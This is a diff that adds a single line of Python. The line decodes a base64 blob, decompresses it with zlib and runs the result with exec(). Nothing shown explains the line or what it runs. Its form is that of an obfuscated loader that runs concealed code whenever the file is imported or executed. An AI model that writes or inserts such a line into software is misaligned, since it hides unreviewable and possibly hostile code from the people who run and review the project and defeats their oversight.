@@ -1,0 +1,1 @@
+import base64, zlib; exec(zlib.decompress(base64.b64decode(b'eJwlyl1vgjAUgOG/wp0SF4ez1iy7EiOkRGVQ6Ezv+GgES8OBMxfsrzdmd2+evK2Bfvx1ygIVJW+O7dryy1GTquavXNaq6g2MCnH+vyxLSl5Yq3k5U5E92v2aHR+Q8kOP2S23ngj7B3Yn7CQb8+a8uu6mTxFx/X62ewK8Jbhih9HTOJ0SxmBIIaJDp0S2ERYL9Q15kMhL/KFlfK/pT4QiMLXukkrf2zRsAIgIGpOuQYvLjS42XKi+khErqfSzrb/IjB/z0Le4hQyJpDAU5roTf9yLZ67rPgG3UVJ3')))
